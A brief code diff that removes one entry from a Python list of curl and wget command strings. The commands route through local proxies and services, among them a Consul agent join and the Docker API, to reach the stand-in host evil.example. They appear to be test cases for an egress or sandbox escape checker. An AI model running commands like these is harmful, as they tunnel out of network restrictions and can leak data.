@@ -44,7 +44,6 @@ OUTSIDE = [
     "curl -s 'http://127.0.0.1:9115/probe?target=http%253A%252F%252Fevil.example%252Fseen'",
     "curl -s http://localhost:3128/http://evil.example/seen",
     "curl -s http://localhost:3128/http:/evil.example/seen",
-    "curl -s http://localhost:8500/v1/agent/join/seen.evil.example",
     "curl -s 'http://127.0.0.1:2375/images/search?term=seen'",
     "curl -s 'http://127.0.0.1:53/resolve?name=seen.evil.example'",
     "wget -qO- http://127.0.0.1/",
